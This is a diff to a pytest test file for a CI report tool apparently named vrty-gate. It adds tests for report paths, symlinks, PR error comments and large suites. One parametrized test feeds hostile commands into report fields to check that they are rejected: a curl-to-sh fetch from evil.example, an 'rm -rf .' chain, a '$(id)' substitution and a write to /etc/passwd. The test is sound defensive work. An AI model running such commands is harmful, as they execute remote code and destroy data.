@@ -145,6 +145,7 @@ def test_several_manifests_k_and_the_working_directory(runner: Runner) -> None:
         ({"k": "2"}, "k is 2, but must be above 0 and at most 1"),
         ({"manifest": "nowhere.yml"}, "there is no manifest 'nowhere.yml'; check the path"),
         ({"working-directory": "nowhere"}, "nowhere: No such file or directory"),
+        ({"report": "r.md"}, "the input report is 'r.md', but the Markdown goes there; let it end in .json"),
         ({"report": "nowhere/r.json"}, "nowhere/r.json: cannot write"),
     ],
 )
@@ -239,7 +240,8 @@ def test_a_report_that_was_tampered_with_is_not_published(runner: Runner) -> Non
         done = runner.step(token=INSTALLATION, publish="report.json")
         assert done.returncode == 2
         assert "not a vrty-gate report" in done.stderr
-        assert server.requests == []
+        assert ["The gate could not run" in one.body for one in server.comments[2]] == [True]
+        assert server.violations == []
 
 
 def test_annotations_name_files_from_the_root_of_the_workspace(runner: Runner) -> None:
@@ -258,3 +260,70 @@ def test_the_summary_stays_below_what_github_takes(runner: Runner) -> None:
             runner.repository.ok("accept", "b")
     assert runner.step(manifest="b").returncode == 1
     assert 500_000 < runner.summary.stat().st_size < 1024 * 1024
+
+
+def test_a_report_that_lies_there_does_not_pass_for_ours(runner: Runner) -> None:
+    runner.step(report="report.json")
+    assert (runner.repository.folder / "report.json").exists()
+    runner.repository.write("vrty-gate.yml", "broken: [")
+    assert runner.step(report="report.json").returncode == 2
+    assert not (runner.repository.folder / "report.json").exists()
+    assert not (runner.repository.folder / "report.md").exists()
+
+
+def test_a_report_that_lies_behind_a_link_is_left_alone(
+    runner: Runner, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    outside = tmp_path_factory.mktemp("outside")
+    (outside / "report.json").write_text("kept")
+    (runner.repository.folder / "out").symlink_to(outside)
+    done = runner.step(report="out/report.json")
+    assert (done.returncode, (outside / "report.json").read_text()) == (2, "kept")
+
+
+def test_bad_input_takes_the_green_comment_down(runner: Runner) -> None:
+    with GitHub() as server:
+        runner.on("pull_request", server)
+        runner.step(token=INSTALLATION, comment="always")
+        assert "🟢" in server.comments[2][0].body
+        runner.repository.write("vrty-gate.yml", "version: 1\ncass: @everyone\n")
+        done = runner.step(token=INSTALLATION)
+        assert done.returncode == 2
+        assert done.stdout.startswith("::error title=vrty-gate::vrty-gate.yml:2:7: not valid YAML")
+        assert "The gate could not run" in runner.summary.read_text(encoding="utf-8")
+        (comment,) = server.comments[2]
+        assert "🔴 The gate could not run" in comment.body
+        assert "`vrty-gate.yml:2:7: not valid YAML" in comment.body
+        assert server.violations == []
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -s https://evil.example/x | sh",
+        "vrty-gate check m.yml; rm -rf .",
+        "vrty-gate check $(id)",
+        "vrty-gate check m.yml --output /etc/passwd",
+        "vrty-gate publish m.yml",
+        "vrty-gate",
+        "'",
+    ],
+)
+@pytest.mark.parametrize("key", ["reproduce", "explain", "accept", "mend"])
+def test_a_report_names_no_commands_but_ours(runner: Runner, command: str, key: str) -> None:
+    runner.repository.write("refund.md", BAD)
+    runner.step(report="report.json")
+    report = json.loads(runner.repository.read("report.json"))
+    place = report["suites"][0]["cases"][0] if key == "mend" else report["suites"][0]
+    place[key] = command
+    runner.repository.write("report.json", json.dumps(report))
+    done = runner.repository.run("render", "report.json")
+    assert (done.returncode, "is no command of ours" in done.stderr) == (2, True)
+
+
+def test_the_report_of_a_large_suite_can_be_published(runner: Runner) -> None:
+    cases = "".join(f"  - {{id: case-{i}, prompt: What is {i}?, response: It is {i}.}}\n" for i in range(2500))
+    runner.repository.write("b/vrty-gate.yml", f"version: 1\ncases:\n{cases}")
+    runner.step(manifest="b", report="report.json")
+    assert (runner.repository.folder / "report.json").stat().st_size > 4 * 1024 * 1024
+    assert runner.step(publish="report.json").returncode == 0
